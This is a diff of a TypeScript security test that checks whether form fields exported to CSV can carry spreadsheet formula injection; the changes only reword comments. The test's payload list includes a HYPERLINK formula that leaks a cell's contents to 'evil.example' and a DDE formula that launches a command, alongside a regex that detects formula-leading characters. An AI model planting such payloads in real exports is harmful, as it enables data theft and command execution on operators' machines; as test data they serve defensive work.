@@ -7,7 +7,7 @@ import { usingAttackedSite } from '../attacked-site.ts';
 import { mustHold, noneOf, type AttackMeasurement } from '../attack-measurement.ts';
 import { runData } from '../data-command.ts';
 
-/** What spreadsheets take for a formula, or run. */
+/** Texts that spreadsheets take for a formula, or run. */
 const FORMULAS = [
   '=HYPERLINK("https://evil.example/?"&A1,"open")',
   "=cmd|' /C calc'!A0",
@@ -24,14 +24,14 @@ const FORMULAS = [
   'a\t=1+1',
 ];
 
-/** Also where a spreadsheet splits a cell, whatever quotes it has. */
+/** Matches formulas, even where a spreadsheet splits a quoted cell. */
 const RUNS = /^[\t\r]|(?:^|[,;\t\r\n])[=+\-@]/;
 
-/** Every cell of an export, below its headers. */
+/** Every cell of an export, without the header row. */
 const cellsOf = (csv: string): ReadonlyArray<string> =>
   (parse(csv, { bom: true, from_line: 2 }) as ReadonlyArray<ReadonlyArray<string>>).flat();
 
-/** Formulas in the fields of forms, which an operator opens in a spreadsheet (issue: CSV injection). */
+/** Formulas in form fields, which an operator opens in a spreadsheet (issue: CSV injection). */
 export const measureCsvInjection: AttackMeasurement = () =>
   using(openSqliteStorage(), ({ settings }) =>
     usingAttackedSite({ ...settings, RATE_LIMIT: '0' }, async ({ address }) => {
